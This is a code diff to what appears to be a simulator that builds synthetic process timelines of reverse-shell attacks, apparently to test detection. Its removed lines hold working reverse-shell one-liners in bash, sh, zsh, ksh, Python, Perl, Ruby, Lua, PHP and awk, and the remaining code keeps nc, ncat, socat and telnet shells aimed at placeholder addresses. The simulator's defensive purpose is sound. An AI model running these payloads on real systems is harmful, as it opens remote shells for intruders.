@@ -11,7 +11,8 @@ from dataclasses import dataclass
 from functools import partial
 
 from runner.sample_data.addresses import Endpoint, attacker
-from runner.sample_data.command_lines import shell
+from runner.sample_data.catalogue import entries
+from runner.sample_data.command_lines import programs, shell
 from runner.sample_data.processes import Process, SampleProgram
 from runner.sample_data.timeline import MILLISECOND, Timeline, TimelineStep
 
@@ -78,9 +79,16 @@ def look_around(line: Timeline, inside: Process) -> None:
     line.end(inside)
 
 
-def to_address(pattern: str, remote: Endpoint) -> str:
-    """The pattern with ADDRESS and PORT replaced by the attacker's."""
-    return pattern.replace("ADDRESS", remote.address).replace("PORT", str(remote.port))
+def program_of(line: Timeline, command: str, remote: Endpoint) -> SampleProgram:
+    """The program of a command: its file and its arguments, with a blank between two.
+
+    PYTHON stands for the interpreter of the host's distribution, `@name` for an attack script, ADDRESS and PORT for
+    those of the attacker.
+    """
+    scripts = entries("attack_scripts")
+    path, *args = (scripts[part[1:]] if part.startswith("@") else part for part in command.split())
+    args = [part.replace("ADDRESS", remote.address).replace("PORT", str(remote.port)) for part in args]
+    return SampleProgram(line.machine.host.image.python if path == "PYTHON" else path, tuple(args))
 
 
 # A shell connects, then starts a shell.
@@ -94,8 +102,7 @@ def shell_connects(
     """A shell opens or accepts a connection, then starts a shell: by `how`, a fork, an exec or one whole document."""
     line = scene.here
     remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
-    args = tuple(to_address(part, remote) for part in (name, "-c", script))
-    opener = line.run(way_in(line), SampleProgram(f"/usr/bin/{name}", args))
+    opener = line.run(way_in(line), program_of(line, f"/usr/bin/{name} {name} -c @{script}", remote))
     line.wait(1_000, 60_000)
     if how == "retry":
         line.connect(opener, remote)
@@ -131,7 +138,7 @@ def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
     """The relay program opens or accepts a connection; a child of it then executes a shell."""
     line = scene.here
     remote = attacker(line.rng, local_port=4444 if listens else 0)
-    far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else to_address("TCP:ADDRESS:PORT", remote)
+    far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else f"TCP:{remote.address}:{remote.port}"
     program = SampleProgram("/usr/bin/socat", ("socat", far, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"))
     opener = line.run(way_in(line), program)
     line.wait(1_000, 60_000)
@@ -144,50 +151,25 @@ def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
     return first, second
 
 
-BASH = "bash -i >& /dev/tcp/ADDRESS/PORT 0>&1"
-LOOP = "exec 5<>/dev/tcp/ADDRESS/PORT; cat <&5 | while read line; do $line 2>&5 >&5; done"
-SH = "0<&196;exec 196<>/dev/tcp/ADDRESS/PORT; sh <&196 >&196 2>&196"
-ZSH = "zmodload zsh/net/tcp && ztcp ADDRESS PORT && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"
-KSH = "ksh -i <> /dev/tcp/ADDRESS/PORT 1>&0 2>&0"
-ACCEPT = "enable accept; accept -b 0.0.0.0 -v fd 4444; bash -i <&$fd >&$fd 2>&1"
-
 REVERSE_SHELL_ATTACKS: tuple[tuple[str, Attack], ...] = (
-    ("bash /dev/tcp", partial(shell_connects, name="bash", script=BASH)),
+    ("bash /dev/tcp", partial(shell_connects, name="bash", script="bash")),
     ("socat exec", socat_connects),
-    ("sh /dev/tcp", partial(shell_connects, name="sh", script=SH)),
-    ("bash /dev/tcp, other shell", partial(shell_connects, name="bash", script=BASH, how="exec")),
-    ("zsh ztcp", partial(shell_connects, name="zsh", script=ZSH)),
-    ("bash /dev/tcp over IPv6", partial(shell_connects, name="bash", script=BASH, six=True)),
-    ("ksh /dev/tcp", partial(shell_connects, name="ksh", script=KSH, how="exec")),
-    ("bash accepts", partial(shell_connects, name="bash", script=ACCEPT, accepted=True)),
-    ("bash read loop", partial(shell_connects, name="bash", script=LOOP, how="twice")),
+    ("sh /dev/tcp", partial(shell_connects, name="sh", script="sh")),
+    ("bash /dev/tcp, other shell", partial(shell_connects, name="bash", script="bash", how="exec")),
+    ("zsh ztcp", partial(shell_connects, name="zsh", script="zsh")),
+    ("bash /dev/tcp over IPv6", partial(shell_connects, name="bash", script="bash", six=True)),
+    ("ksh /dev/tcp", partial(shell_connects, name="ksh", script="ksh", how="exec")),
+    ("bash accepts", partial(shell_connects, name="bash", script="bash_accepts", accepted=True)),
+    ("bash read loop", partial(shell_connects, name="bash", script="bash_loop", how="twice")),
     ("socat listens", partial(socat_connects, listens=True)),
-    ("bash connects twice", partial(shell_connects, name="bash", script=BASH, how="retry")),
-    ("zsh ztcp, other shell", partial(shell_connects, name="zsh", script=ZSH, how="exec")),
-    ("bash, child in one document", partial(shell_connects, name="bash", script=BASH, how="whole")),
-    ("dash connects", partial(shell_connects, name="dash", script=SH, how="exec")),
+    ("bash connects twice", partial(shell_connects, name="bash", script="bash", how="retry")),
+    ("zsh ztcp, other shell", partial(shell_connects, name="zsh", script="zsh", how="exec")),
+    ("bash, child in one document", partial(shell_connects, name="bash", script="bash", how="whole")),
+    ("dash connects", partial(shell_connects, name="dash", script="sh", how="exec")),
 )
 
 
 # A utility starts, then connects.
-
-PARENTS: tuple[SampleProgram, ...] = (
-    SampleProgram("/usr/bin/bash", ("bash", "/tmp/.x/run.sh")),
-    SampleProgram("/usr/bin/sh", ("sh", "/dev/shm/up.sh")),
-    SampleProgram("/usr/bin/dash", ("/bin/sh", "/var/tmp/u")),
-    SampleProgram("/usr/bin/python3", ("python3", "/tmp/stage.py")),
-    SampleProgram("/usr/bin/perl", ("perl", "/tmp/stage.pl")),
-    SampleProgram("/usr/bin/php8.3", ("php", "/var/www/html/uploads/avatar.php")),
-    SampleProgram("/usr/bin/zsh", ("zsh", "/tmp/up.zsh")),
-    SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/stage.rb")),
-    SampleProgram("/usr/bin/lua5.4", ("lua", "/tmp/stage.lua")),
-    SampleProgram("/usr/bin/awk", ("awk", "-f", "/tmp/stage.awk")),
-    SampleProgram("/usr/bin/ksh", ("ksh", "/tmp/up.ksh")),
-    SampleProgram("/usr/bin/fish", ("fish", "/tmp/up.fish")),
-    SampleProgram("/usr/bin/tcsh", ("tcsh", "/tmp/up.csh")),
-    SampleProgram("/usr/bin/csh", ("csh", "/tmp/up.csh")),
-    SampleProgram("/usr/bin/nc", ("nc", "-lp", "4001")),
-)
 
 
 def stager(line: Timeline) -> Process:
@@ -195,18 +177,18 @@ def stager(line: Timeline) -> Process:
     entry = way_in(line)
     if line.rng.random() < 0.3:
         return entry
-    process = line.run(entry, line.rng.choice(PARENTS))
+    process = line.run(entry, line.rng.choice(programs("stagers")))
     line.wait(1_000, 60_000)
     return process
 
 
 def utility_connects(
-    scene: Scene, gap: int, *, command: str, script: str = "", how: str = "", six: bool = False, accepted: bool = False
+    scene: Scene, gap: int, *, command: str, how: str = "", six: bool = False, accepted: bool = False
 ) -> Pair:
     """A shell or an interpreter starts a utility, which opens or accepts a connection."""
     line = scene.here
     remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
-    process = line.run(stager(line), utility(line, command, remote, script=script))
+    process = line.run(stager(line), program_of(line, command, remote))
     first = line.last_id
     if how == "fork":
         line.wait(2_000, 60_000)
@@ -225,64 +207,25 @@ def utility_connects(
     return first, second
 
 
-def utility(line: Timeline, command: str, remote: Endpoint, *, script: str = "") -> SampleProgram:
-    """The program of a command: its file and its arguments, with a blank between two.
-
-    PYTHON stands for the interpreter of the host's distribution, SCRIPT for `script`, which may have blanks.
-    """
-    path, *args = (part if part != "SCRIPT" else script for part in command.split())
-    executable = line.machine.host.image.python if path == "PYTHON" else path
-    return SampleProgram(executable, tuple(to_address(part, remote) for part in args))
-
-
-PYTHON_CALL = (
-    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("ADDRESS",PORT));'
-    'os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
-)
-PYTHON_PTY = (
-    'import socket,os,pty;s=socket.socket();s.connect(("ADDRESS",PORT));'
-    '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/bash")'
-)
-PERL_EXEC = (
-    'use Socket;$i="ADDRESS";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
-    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
-)
-PERL_SYSTEM = 'use IO::Socket::INET;$c=new IO::Socket::INET("ADDRESS:PORT");while(<$c>){print $c `$_`;system($_);}'
-RUBY = 'c=TCPSocket.new("ADDRESS","PORT");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
-RUBY_OPEN = 'f=TCPSocket.open("ADDRESS",PORT).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
-LUA = "require('socket');t=socket.tcp();t:connect('ADDRESS','PORT');os.execute('/bin/sh -i <&3 >&3 2>&3');"
-LUA_POPEN = (
-    "local s=require('socket');local t=assert(socket.tcp());t:connect('ADDRESS',PORT);"
-    "while true do local c=t:receive();local f=io.popen(c,'r');t:send(f:read('*a'));f:close();end"
-)
-PHP = '$sock=fsockopen("ADDRESS",PORT);exec("/bin/sh -i <&3 >&3 2>&3");'
-AWK = (
-    'BEGIN {s = "/inet/tcp/0/ADDRESS/PORT"; while(42) { do{ printf "> " |& s; s |& getline c; '
-    'if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'
-)
-
 CHILD_PROCESS_ATTACKS: tuple[tuple[str, Attack], ...] = (
-    ("python subprocess", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_CALL)),
-    ("perl exec", partial(utility_connects, command="/usr/bin/perl perl -e SCRIPT", script=PERL_EXEC)),
+    ("python subprocess", partial(utility_connects, command="PYTHON python3 -c @python_subprocess")),
+    ("perl exec", partial(utility_connects, command="/usr/bin/perl perl -e @perl_exec")),
     ("nc -e", partial(utility_connects, command="/usr/bin/nc nc -e /bin/sh ADDRESS PORT")),
-    ("ruby -rsocket", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY)),
-    ("php fsockopen", partial(utility_connects, command="/usr/bin/php8.3 php -r SCRIPT", script=PHP)),
-    ("python pty", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="retry")),
-    ("awk /inet/tcp", partial(utility_connects, command="/usr/bin/awk awk SCRIPT /dev/null", script=AWK)),
+    ("ruby -rsocket", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e @ruby")),
+    ("php fsockopen", partial(utility_connects, command="/usr/bin/php8.3 php -r @php")),
+    ("python pty", partial(utility_connects, command="PYTHON python3 -c @python_pty", how="retry")),
+    ("awk /inet/tcp", partial(utility_connects, command="/usr/bin/awk awk @awk /dev/null")),
     (
         "openssl -connect",
         partial(utility_connects, command="/usr/bin/openssl openssl s_client -quiet -connect ADDRESS:PORT"),
     ),
-    ("lua os.execute", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA)),
+    ("lua os.execute", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e @lua_execute")),
     ("telnet", partial(utility_connects, command="/usr/bin/telnet telnet ADDRESS PORT")),
-    ("python forks", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="fork")),
+    ("python forks", partial(utility_connects, command="PYTHON python3 -c @python_pty", how="fork")),
     ("nc -e listens", partial(utility_connects, command="/usr/bin/nc nc -l -p 4444 -e /bin/bash", accepted=True)),
-    ("perl -E system", partial(utility_connects, command="/usr/bin/perl perl -E SCRIPT", script=PERL_SYSTEM)),
+    ("perl -E system", partial(utility_connects, command="/usr/bin/perl perl -E @perl_system")),
     ("ncat -e over IPv6", partial(utility_connects, command="/usr/bin/ncat ncat -6 ADDRESS PORT -e /bin/sh", six=True)),
-    (
-        "ruby TCPSocket.open",
-        partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY_OPEN),
-    ),
+    ("ruby TCPSocket.open", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e @ruby_open")),
     ("netcat -e", partial(utility_connects, command="/usr/bin/netcat netcat ADDRESS PORT -e /bin/sh")),
-    ("lua io.popen", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA_POPEN)),
+    ("lua io.popen", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e @lua_popen")),
 )
